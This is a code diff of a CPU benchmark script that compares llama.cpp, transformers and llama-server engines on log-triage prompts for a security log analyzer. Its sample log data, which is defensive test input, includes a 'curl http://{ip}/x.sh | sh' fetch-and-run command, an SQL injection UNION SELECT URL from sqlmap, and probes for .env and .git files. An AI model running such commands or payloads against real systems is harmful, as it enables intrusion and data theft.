@@ -1,136 +1,187 @@
-"""Engine benchmark on CPU with the embedded model, against a baseline measured in the same run.
+"""CPU engine benchmark: the llama.cpp engine vs the transformers engine vs llama-server running
+free on the same GGUF (the peer), one run, the same real prompts, each side in its own process.
 
-Baseline: plain `model.generate`, one request at a time, full prompt every time (no prefix reuse),
-unconstrained, greedy. Engine: `LocalEngine.generate` over all requests (left-padded batches,
-prefix KV reuse, xgrammar-constrained `LLMAssessment`), plus one `stream()` for time to first token.
-Prints a table and writes JSON. `--experiment` runs one of the speed studies reported in
-docs/ENGINE.md instead (threads, prompt-lookup decoding, static cache + torch.compile).
+Prompts: the first pipeline prompts of sample_logs (the eval's labelled files, the "suspicious"
+policy), recorded by running the real pipeline with a recording engine — so they are today's
+digests and system prompt, whatever the prompt code says. Triage: one log line through
+`app.triage.prepare` + `Triage.stream`, cold and then with the system prefix cached.
 
-    OMP_WAIT_POLICY=PASSIVE python bench/engine.py                # ~6-10 min on 2 busy cores
-    python bench/engine.py --experiment threads --max-new-tokens 32
+  llamacpp      embedded GGUF + the shipped adapter (GGUF LoRA), schema on, `--slots` slots:
+                the batch of all prompts, one streamed answer, two triages; peak RSS of its process
+  llamacpp-base the same GGUF without the adapter: one streamed answer (what the LoRA costs)
+  transformers  fp32 + the peft adapter, schema on: the first `--transformers-requests` prompts
+                as one batch, one streamed answer, triage
+  peer          llama-server (tests/_server_helpers.py, the xllamacpp wheel's server in a child
+                process) on the same GGUF, no adapter, no grammar, `ignore_eos`: free-running
+                decode speed of one request at a time, measured before and after the others
+
+    python bench/engine.py --threads 1                       # ~15-25 min on 2 shared cores
+    python bench/engine.py --threads 1 --requests 4 --transformers-requests 2   # a quick look
+
+Ratios compare numbers measured in this run only; print `uptime` load with them.
 """
 
 from __future__ import annotations
 
 import argparse
 import json
+import os
+import resource
 import statistics
+import subprocess
 import sys
 import tempfile
 import time
 from pathlib import Path
 from typing import Any
 
-import torch
-
 ROOT = Path(__file__).resolve().parents[1]
 sys.path.insert(0, str(ROOT))
+sys.path.insert(1, str(ROOT / "tests"))
 
-from logwarden.engine.api import Request  # noqa: E402
-from logwarden.app.config import get_settings  # noqa: E402
-from logwarden.engine.load import load_engine  # noqa: E402
-from logwarden.schemas import LLMAssessment, assessment_json_schema  # noqa: E402
-
-WINDOWS = [
-    "host=web-01 program=sshd 02:14:07..02:16:51 lines=412\n[398] Failed password for <user> from <ip> port <num> ssh2"
-    " users: root(211) admin(97) oracle(90) ips: {ip}(398)\n[1] Accepted password for admin from {ip} port 50122 ssh2",
-    'host=shop-02 program=nginx lines=1\n{ip} - - [02/May/2024:10:01:13 +0000] "GET /products.php?id=1%27%20UNION'
-    '%20SELECT%20username,password%20FROM%20users--%20 HTTP/1.1" 200 5123 "-" "sqlmap/1.7.2"',
-    "host=db-03 program=CRON lines=24\n[24] (root) CMD (run-parts /etc/cron.hourly)",
-    "host=web-01 program=sudo lines=3\n[3] www-data : TTY=unknown ; PWD=/var/www ; USER=root ; COMMAND=/bin/bash -c"
-    " curl http://{ip}/x.sh | sh",
-    'host=shop-02 program=apache lines=57\n[57] "GET /<path> HTTP/1.1" 404 paths: /.env(9) /wp-login.php(12)'
-    " /phpmyadmin/(8) /.git/config(11) ips: {ip}(57)",
-    "host=dc-01 channel=Security lines=2\nEventID 4720 TargetUserName=svc_backup2 SubjectUserName=jdoe\n"
-    "EventID 4732 MemberName=svc_backup2 TargetUserName=Administrators",
-    "host=app-07 program=kernel lines=5\n[3] Out of memory: Killed process <num> (java) total-vm:<num>kB\n"
-    "[2] EXT4-fs error (device sda1): ext4_find_entry: reading directory lblock 0",
-    "host=aws program=cloudtrail lines=6\n[6] s3.amazonaws.com GetObject user=ci-deploy from {ip} "
-    "bucket=customer-exports objects=4812 bytes=38GB",
+TRIAGE_LINES = [
+    '203.0.113.9 - - [02/Mar/2026:10:00:00 +0000] "GET /item.php?id=1%20UNION%20SELECT%20user,password%20FROM'
+    '%20users-- HTTP/1.1" 200 512 "-" "sqlmap/1.7"',
+    "Mar  2 10:01:07 bastion sshd[9211]: Failed password for invalid user admin from 198.51.100.77 port 51122 ssh2",
 ]
-IPS = ["203.0.113.45", "198.51.100.23"]
 
 
-def prompts() -> tuple[str, list[str]]:
-    """The project's real system prompt when the prompts package has it, else the tests' one."""
-    try:
-        from logwarden.prompts import system_prompt, user_prompt
+# ---- prompts -------------------------------------------------------------------------------
 
-        return system_prompt(), [user_prompt(w.format(ip=ip)) for ip in IPS for w in WINDOWS]
-    except ImportError:
-        sys.path.insert(0, str(ROOT / "tests"))
-        from _engine_helpers import ANALYST_SYSTEM
+def record_prompts(n: int, count_tokens) -> list[dict]:
+    """The first `n` prompts the pipeline sends for sample_logs' labelled files."""
+    from logwarden.app.evaluate import labelled_files, load_labels, run_eval
+    from logwarden.train.replay import RecordingEngine
 
-        return ANALYST_SYSTEM, [w.format(ip=ip) for ip in IPS for w in WINDOWS]
-
-
-class FirstTokenClock:
-    """A transformers streamer that notes when the first generated token arrives."""
-
-    def __init__(self) -> None:
-        self.start = time.perf_counter()
-        self.first: float | None = None
-        self._calls = 0
-
-    def put(self, value: Any) -> None:
-        self._calls += 1
-        if self._calls == 2 and self.first is None:  # call 1 is the prompt itself
-            self.first = time.perf_counter() - self.start
-
-    def end(self) -> None:
-        pass
+    labels = ROOT / "sample_logs" / "labels.jsonl"
+    units = load_labels(labels)
+    engine = RecordingEngine(count_tokens)
+    run_eval(units, labels.parent, labelled_files(units, labels.parent), engine=engine, llm_policy="suspicious")
+    rows = [{"system": r.system, "user": r.user} for r in engine.requests.values()]
+    step = max(1, len(rows) // n)  # spread over the files, not only the first one
+    return rows[::step][:n]
 
 
-def baseline_one(engine: Any, request: Request, max_new_tokens: int, **generate_kwargs: Any) -> dict:
-    tok, model = engine.tokenizer, engine.model
-    text = tok.apply_chat_template([{"role": "system", "content": request.system},
-                                    {"role": "user", "content": request.user}],
-                                   tokenize=False, add_generation_prompt=True)
-    inputs = tok(text, return_tensors="pt", add_special_tokens=False)
-    clock = FirstTokenClock()
-    with torch.inference_mode():
-        out = model.generate(**inputs, max_new_tokens=max_new_tokens, do_sample=False, streamer=clock,
-                             pad_token_id=tok.pad_token_id, **generate_kwargs)
-    total = time.perf_counter() - clock.start
-    new = out.shape[1] - inputs["input_ids"].shape[1]
-    ttft = clock.first or total
-    answer = tok.decode(out[0, inputs["input_ids"].shape[1]:], skip_special_tokens=True)
-    return {"ttft_s": ttft, "total_s": total, "new_tokens": new, "prompt_tokens": inputs["input_ids"].shape[1],
-            "decode_tps": (new - 1) / max(total - ttft, 1e-9), "text": answer}
+def _requests(rows: list[dict]):
+    from logwarden.engine.api import Request
+
+    return [Request(r["system"], r["user"]) for r in rows]
 
 
-def run_baseline(engine: Any, requests: list[Request], max_new_tokens: int) -> dict:
-    runs = [baseline_one(engine, r, max_new_tokens) for r in requests]
-    seconds = sum(r["total_s"] for r in runs)
-    return {"requests": len(runs), "wall_s": seconds, "requests_per_s": len(runs) / seconds,
-            "ttft_s": statistics.mean(r["ttft_s"] for r in runs),
-            "decode_tps": statistics.mean(r["decode_tps"] for r in runs),
-            "new_tokens": sum(r["new_tokens"] for r in runs),
-            "valid_json": sum(_valid(r["text"]) for r in runs)}
+# ---- phases (each in its own process) ------------------------------------------------------
+
+def phase_llamacpp(args: argparse.Namespace, rows: list[dict]) -> dict:
+    from logwarden.app.config import get_settings
+    from logwarden.engine.load import load_engine
+
+    began = time.perf_counter()
+    engine = load_engine(engine="llamacpp", threads=args.threads, max_batch=args.slots,
+                         cache_dir=get_settings().model_cache)
+    out: dict[str, Any] = {"load_s": time.perf_counter() - began, "describe": engine.describe()}
+    out["triage"] = triage_ttft(engine)
+    out["batch"] = batch(engine, _requests(rows), args.max_new_tokens)
+    out["stream"] = stream_one(engine, _requests(rows)[0], args.max_new_tokens)
+    out["peak_rss_mb"] = _rss_mb()
+    out["torch_imported"] = "torch" in sys.modules
+    return out
 
 
-def run_engine(engine: Any, requests: list[Request], max_new_tokens: int) -> dict:
+def phase_llamacpp_base(args: argparse.Namespace, rows: list[dict]) -> dict:
+    from logwarden.app.config import get_settings
+    from logwarden.engine.load import load_engine
+
+    engine = load_engine(engine="llamacpp", adapter="none", threads=args.threads, max_batch=1,
+                         cache_dir=get_settings().model_cache)
+    return {"stream": stream_one(engine, _requests(rows)[0], args.max_new_tokens, warm=True)}
+
+
+def phase_transformers(args: argparse.Namespace, rows: list[dict]) -> dict:
+    from logwarden.app.config import get_settings
+    from logwarden.engine.load import load_engine
+
+    began = time.perf_counter()
+    engine = load_engine(engine="transformers", threads=args.threads, max_batch=8,
+                         cache_dir=get_settings().model_cache)
+    out: dict[str, Any] = {"load_s": time.perf_counter() - began, "describe": engine.describe()}
+    out["triage"] = triage_ttft(engine)
+    out["batch"] = batch(engine, _requests(rows)[: args.transformers_requests], args.max_new_tokens)
+    out["stream"] = stream_one(engine, _requests(rows)[0], args.max_new_tokens)
+    out["peak_rss_mb"] = _rss_mb()
+    return out
+
+
+def phase_peer(args: argparse.Namespace, rows: list[dict]) -> dict:
+    """llama-server's own decode speed: one request at a time, no grammar, no adapter."""
+    import httpx
+
+    from _server_helpers import LlamaServer
+    from logwarden.app.config import get_settings
+    from logwarden.engine.load import resolve_gguf
+
+    source = resolve_gguf("embedded", cache_dir=get_settings().model_cache)
+    speeds = []
+    with LlamaServer(source.path / source.gguf_file, parallel=1, threads=args.threads or 2) as server:
+        for row in rows[:2]:
+            body = {"messages": [{"role": "system", "content": row["system"]}, {"role": "user", "content": row["user"]}],
+                    "max_tokens": min(args.max_new_tokens, 160), "temperature": 0, "ignore_eos": True}
+            reply = httpx.post(f"{server.url}/chat/completions", json=body, timeout=600).json()
+            speeds.append(reply["timings"]["predicted_per_second"])
+    return {"decode_tps": statistics.mean(speeds), "runs": speeds}
+
+
+PHASES = {"llamacpp": phase_llamacpp, "llamacpp-base": phase_llamacpp_base, "transformers": phase_transformers,
+          "peer": phase_peer}
+
+
+# ---- measurements ------------------------------------------------------------------------------
+
+def batch(engine: Any, requests: list, max_new_tokens: int) -> dict:
+    from logwarden.schemas import assessment_json_schema
+
     schema = assessment_json_schema()
-    engine.generate(requests[:1], schema=schema, max_new_tokens=1)  # compiles the grammar, fills the prefix KV
-    start = time.perf_counter()
+    began = time.perf_counter()
     generations = engine.generate(requests, schema=schema, max_new_tokens=max_new_tokens)
-    wall = time.perf_counter() - start
-    stream = engine.stream(requests[1], schema=schema, max_new_tokens=max_new_tokens)
-    for _ in stream:
-        pass
-    new_tokens = sum(g.stats.new_tokens for g in generations)
-    return {"requests": len(generations), "wall_s": wall, "requests_per_s": len(generations) / wall,
-            "batch_ttft_s": statistics.mean(g.stats.ttft_s for g in generations),
-            "stream_ttft_s": stream.generation.stats.ttft_s,
-            "stream_decode_tps": stream.generation.stats.tokens_per_s,
-            "aggregate_tps": new_tokens / wall, "new_tokens": new_tokens,
-            "finished": sum(g.finished for g in generations),
-            "valid_json": sum(_valid(g.text) for g in generations),
-            "cached_prefix_tokens": generations[0].stats.cached_prefix_tokens,
-            "peak_memory_mb": max(g.stats.peak_memory_mb for g in generations)}
+    wall = time.perf_counter() - began
+    new = sum(g.stats.new_tokens for g in generations)
+    return {"requests": len(requests), "wall_s": wall, "aggregate_tps": new / wall, "new_tokens": new,
+            "prompt_tokens": sum(g.stats.prompt_tokens for g in generations),
+            "cached_prefix_tokens": sum(g.stats.cached_prefix_tokens for g in generations),
+            "ttft_s": statistics.mean(g.stats.ttft_s for g in generations),
+            "finished": sum(g.finished for g in generations), "valid": sum(_valid(g.text) for g in generations),
+            "verdicts": [_verdict(g.text) for g in generations]}
+
+
+def stream_one(engine: Any, request: Any, max_new_tokens: int, warm: bool = False) -> dict:
+    from logwarden.schemas import assessment_json_schema
+
+    if warm:  # the prompt into the cache: what is left to measure is decoding
+        engine.generate([request], schema=assessment_json_schema(), max_new_tokens=1)
+    stream = engine.stream(request, schema=assessment_json_schema(), max_new_tokens=max_new_tokens)
+    pieces = sum(1 for _ in stream)
+    stats = stream.generation.stats
+    return {"decode_tps": stats.tokens_per_s, "ttft_s": stats.ttft_s, "new_tokens": stats.new_tokens,
+            "pieces": pieces, "cached_prefix_tokens": stats.cached_prefix_tokens, "prompt_tokens": stats.prompt_tokens}
+
+
+def triage_ttft(engine: Any) -> dict:
+    """`logwarden triage`'s path: the first line cold, the second with the system prefix cached."""
+    from logwarden.app.triage import prepare
+
+    out = {}
+    for label, line in zip(("cold", "cached_prefix"), TRIAGE_LINES):
+        stream = prepare(line, count_tokens=engine.count_tokens).stream(engine)
+        for _ in stream:
+            pass
+        stats = stream.generation.stats
+        out[label] = {"ttft_s": stats.ttft_s, "prompt_tokens": stats.prompt_tokens,
+                      "cached_prefix_tokens": stats.cached_prefix_tokens, "new_tokens": stats.new_tokens,
+                      "total_s": stats.total_s}
+    return out
 
 
 def _valid(text: str) -> bool:
+    from logwarden.schemas import LLMAssessment
+
     try:
         LLMAssessment.model_validate_json(text)
         return True
@@ -138,88 +189,117 @@ def _valid(text: str) -> bool:
         return False
 
 
-def report(base: dict, eng: dict, engine: Any) -> dict:
+def _verdict(text: str) -> list[str] | None:
+    try:
+        answer = json.loads(text)
+        return [answer.get("category"), answer.get("risk_level")]
+    except ValueError:
+        return None
+
+
+def _rss_mb() -> float:
+    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024
+
+
+# ---- the run ---------------------------------------------------------------------------------
+
+def run_phase(name: str, args: argparse.Namespace, prompts_file: Path) -> dict:
+    """Each phase in a fresh process: its own peak RSS, no engine's memory or threads left behind."""
+    command = [sys.executable, __file__, "--phase", name, "--prompts", str(prompts_file),
+               "--max-new-tokens", str(args.max_new_tokens), "--slots", str(args.slots),
+               "--transformers-requests", str(args.transformers_requests)]
+    if args.threads:
+        command += ["--threads", str(args.threads)]
+    began = time.perf_counter()
+    print(f"[{time.strftime('%H:%M:%S')}] {name} … (load {os.getloadavg()[0]:.1f})", flush=True)
+    done = subprocess.run(command, capture_output=True, text=True, env=os.environ | {"PYTHONPATH": str(ROOT)})
+    if done.returncode != 0:
+        raise SystemExit(f"phase {name} failed:\n{done.stderr[-4000:]}")
+    result = json.loads(done.stdout.strip().splitlines()[-1])
+    result["phase_s"] = time.perf_counter() - began
+    return result
+
+
+def report(r: dict, load: list[float]) -> dict:
+    lc, tf, base = r["llamacpp"], r["transformers"], r["llamacpp-base"]
+    peer = statistics.mean([r["peer"]["decode_tps"], r["peer-after"]["decode_tps"]])
     rows = [
-        ("time to first token (s)", base["ttft_s"], eng["stream_ttft_s"]),
-        ("decode tokens/s, one request", base["decode_tps"], eng["stream_decode_tps"]),
-        ("decode tokens/s, whole run", base["new_tokens"] / base["wall_s"], eng["aggregate_tps"]),
-        ("requests/s", base["requests_per_s"], eng["requests_per_s"]),
-        ("schema-valid answers", base["valid_json"] / base["requests"], eng["valid_json"] / eng["requests"]),
+        ("decode tok/s, one request (stream)", lc["stream"]["decode_tps"], tf["stream"]["decode_tps"], peer),
+        ("decode tok/s, one request, no adapter", base["stream"]["decode_tps"], None, peer),
+        ("decode tok/s, whole batch (aggregate)", lc["batch"]["aggregate_tps"], tf["batch"]["aggregate_tps"], None),
+        ("triage TTFT, cold (s)", lc["triage"]["cold"]["ttft_s"], tf["triage"]["cold"]["ttft_s"], None),
+        ("triage TTFT, prefix cached (s)", lc["triage"]["cached_prefix"]["ttft_s"],
+         tf["triage"]["cached_prefix"]["ttft_s"], None),
+        ("peak RSS (MiB)", lc["peak_rss_mb"], tf["peak_rss_mb"], None),
+        ("load (s)", lc["load_s"], tf["load_s"], None),
     ]
-    print(f"\nengine: {json.dumps(engine.describe())}")
-    print(f"{'metric':34} {'baseline':>10} {'engine':>10} {'ratio':>8}")
-    for name, b, e in rows:
-        ratio = f"{(b / e if 'first token' in name else e / b):7.2f}x" if b and e else "    n/a"
-        print(f"{name:34} {b:10.3f} {e:10.3f} {ratio}")
-    print("(ratio > 1 = engine better; TTFT ratio = baseline/engine)")
-    return {"baseline": base, "engine": eng, "describe": engine.describe(),
-            "ratios": {name: ((b / e) if "first token" in name else (e / b)) if b and e else None
-                       for name, b, e in rows}}
+    print(f"\nload average during the run: {min(load):.1f}–{max(load):.1f} (1-min, sampled per phase)")
+    print(f"{'metric':40} {'llama.cpp':>10} {'transf.':>10} {'peer':>8} {'vs transf.':>11} {'vs peer':>8}")
+    for name, ours, theirs, peer_value in rows:
+        vs_t = _ratio(name, ours, theirs)
+        vs_p = _ratio(name, ours, peer_value)
+        print(f"{name:40} {ours:10.2f} {_f(theirs):>10} {_f(peer_value):>8} {vs_t:>11} {vs_p:>8}")
+    agree = sum(a == b for a, b in zip(lc["batch"]["verdicts"], tf["batch"]["verdicts"]))
+    print(f"schema-valid: llama.cpp {lc['batch']['valid']}/{lc['batch']['requests']}, transformers "
+          f"{tf['batch']['valid']}/{tf['batch']['requests']}; same verdict (category, risk) on the shared "
+          f"prompts: {agree}/{tf['batch']['requests']}; cached prefix tokens in the batch: "
+          f"{lc['batch']['cached_prefix_tokens']} of {lc['batch']['prompt_tokens']} prompt tokens")
+    return {"rows": [{"metric": n, "llamacpp": a, "transformers": b, "peer": c} for n, a, b, c in rows],
+            "verdicts_agree": agree, "load_average": load}
 
 
-# ---- experiments -------------------------------------------------------------------------------
-
-def experiment_threads(engine: Any, requests: list[Request], max_new_tokens: int) -> dict:
-    """Decode speed at 1 and 2 threads, interleaved twice so drifting load hits both alike."""
-    results: dict[str, list[float]] = {"1": [], "2": []}
-    for _ in range(2):
-        for threads in (1, 2):
-            torch.set_num_threads(threads)
-            run = baseline_one(engine, requests[0], max_new_tokens)
-            results[str(threads)].append(run["decode_tps"])
-            print(f"threads={threads} decode {run['decode_tps']:.2f} tok/s ttft {run['ttft_s']:.2f}s", flush=True)
-    return {k: statistics.mean(v) for k, v in results.items()}
+def _ratio(name: str, ours: float | None, theirs: float | None) -> str:
+    if not ours or not theirs:
+        return ""
+    lower_is_better = "(s)" in name or "MiB" in name
+    return f"{(theirs / ours if lower_is_better else ours / theirs):.2f}x"
 
 
-def experiment_lookup(engine: Any, requests: list[Request], max_new_tokens: int) -> dict:
-    """transformers' prompt-lookup decoding vs plain greedy on the same prompts (unconstrained)."""
-    out = {}
-    for label, kwargs in [("plain", {}), ("prompt_lookup_10", {"prompt_lookup_num_tokens": 10})]:
-        runs = [baseline_one(engine, r, max_new_tokens, **kwargs) for r in requests[:2]]
-        out[label] = {"decode_tps": statistics.mean(r["decode_tps"] for r in runs),
-                      "same_text": [r["text"][:80] for r in runs]}
-        print(label, out[label], flush=True)
-    return out
-
-
-def experiment_compile(engine: Any, requests: list[Request], max_new_tokens: int) -> dict:
-    """Static KV cache + compiled decode step (transformers' own path) vs dynamic cache, eager."""
-    out = {}
-    for label, kwargs in [("dynamic_eager", {}), ("static_compiled", {"cache_implementation": "static"})]:
-        runs = [baseline_one(engine, requests[0], max_new_tokens, **kwargs) for _ in range(2)]
-        out[label] = {"first_call_s": runs[0]["total_s"], "decode_tps": runs[1]["decode_tps"]}
-        print(label, out[label], flush=True)
-    return out
-
-
-EXPERIMENTS = {"threads": experiment_threads, "lookup": experiment_lookup, "compile": experiment_compile}
+def _f(value: float | None) -> str:
+    return "" if value is None else f"{value:.2f}"
 
 
 def main() -> None:
     parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
     parser.add_argument("--requests", type=int, default=16)
-    parser.add_argument("--baseline-requests", type=int, default=3,
-                        help="baseline is sequential: its per-request cost is measured on this many")
-    parser.add_argument("--max-new-tokens", type=int, default=160)
-    parser.add_argument("--max-batch", type=int, default=8)
+    parser.add_argument("--transformers-requests", type=int, default=4,
+                        help="transformers decodes ~5 tok/s here: its batch is the first N prompts")
+    parser.add_argument("--max-new-tokens", type=int, default=320)
+    parser.add_argument("--slots", type=int, default=4)
     parser.add_argument("--threads", type=int, default=None)
-    parser.add_argument("--experiment", choices=sorted(EXPERIMENTS))
+    parser.add_argument("--phase", choices=sorted(PHASES), help=argparse.SUPPRESS)
+    parser.add_argument("--prompts", type=Path, help=argparse.SUPPRESS)
     parser.add_argument("--json", type=Path, default=Path(tempfile.gettempdir()) / "logwarden-bench-engine.json")
     args = parser.parse_args()
+    if args.phase:  # a child: one phase, one JSON line on stdout
+        rows = [json.loads(line) for line in args.prompts.read_text().splitlines()]
+        print(json.dumps(PHASES[args.phase](args, rows), default=str))
+        return
+    from logwarden.app.config import get_settings
+    from logwarden.engine.embedded import PACKS, ensure_converted
+    from logwarden.engine.gguf_meta import read_metadata
+    from logwarden.engine.gguf_tokenizer import token_counter
+    from logwarden.engine.load import resolve_gguf
 
-    engine = load_engine(threads=args.threads, max_batch=args.max_batch, cache_dir=get_settings().model_cache)
-    system, users = prompts()
-    requests = [Request(system, users[i % len(users)]) for i in range(args.requests)]
-    if args.experiment:
-        result = {"experiment": args.experiment,
-                  "result": EXPERIMENTS[args.experiment](engine, requests, args.max_new_tokens)}
-    else:
-        base = run_baseline(engine, requests[: args.baseline_requests], args.max_new_tokens)
-        eng = run_engine(engine, requests, args.max_new_tokens)
-        result = report(base, eng, engine)
-    result["args"] = {k: str(v) for k, v in vars(args).items()}
+    source = resolve_gguf("embedded", cache_dir=get_settings().model_cache)
+    ensure_converted(PACKS["embedded"], get_settings().model_cache)  # the transformers side's folder, once
+    rows = record_prompts(args.requests, token_counter(read_metadata(source.path / source.gguf_file)).count)
+    prompts_file = args.json.with_suffix(".prompts.jsonl")
+    prompts_file.write_text("".join(json.dumps(r, ensure_ascii=False) + "\n" for r in rows))
+    print(f"{len(rows)} prompts recorded; {_uptime()}", flush=True)
+    results, load = {}, []
+    for name in ("peer", "llamacpp", "llamacpp-base", "transformers", "peer-after"):
+        load.append(os.getloadavg()[0])
+        results[name] = run_phase(name.removesuffix("-after"), args, prompts_file)
+    load.append(os.getloadavg()[0])
+    result = {"results": results, "summary": report(results, load), "args": vars(args),
+              "date": time.strftime("%Y-%m-%d %H:%M:%S %Z"), "uptime": _uptime()}
     args.json.write_text(json.dumps(result, indent=2, default=str))
     print(f"wrote {args.json}")
+
+
+def _uptime() -> str:
+    return subprocess.run(["uptime"], capture_output=True, text=True).stdout.strip()
 
 
 if __name__ == "__main__":
